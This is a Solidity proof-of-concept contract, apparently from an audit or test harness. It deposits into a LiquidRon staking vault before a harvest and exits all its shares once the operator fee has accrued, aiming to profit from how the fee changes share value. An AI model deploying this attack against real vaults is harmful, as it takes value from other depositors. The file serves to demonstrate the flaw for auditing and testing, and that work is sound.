// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {LiquidRon} from "src/LiquidRon.sol";
import {IERC20} from "src/interfaces/IERC20.sol";

/// @notice Is a holder from before the harvest until the operator's cut has made shares dearer, and leaves then.
contract Poc {
    bool public reached;
    uint256 private paid;

    function attack(uint256, address[] calldata contracts, address[] calldata tokens, address[] calldata) external {
        LiquidRon vault = LiquidRon(contracts[0]);
        if (paid == 0) {
            enter(vault, IERC20(tokens[0]));
        } else if (vault.balanceOf(address(this)) != 0 && vault.operatorFeeAmount() != 0) {
            reached = true;
            vault.requestExit(vault.balanceOf(address(this)));
            vault.leave();
        }
    }

    function enter(LiquidRon vault, IERC20 token) private {
        paid = token.balanceOf(address(this));
        token.approve(address(vault), paid);
        vault.deposit(paid);
    }
}
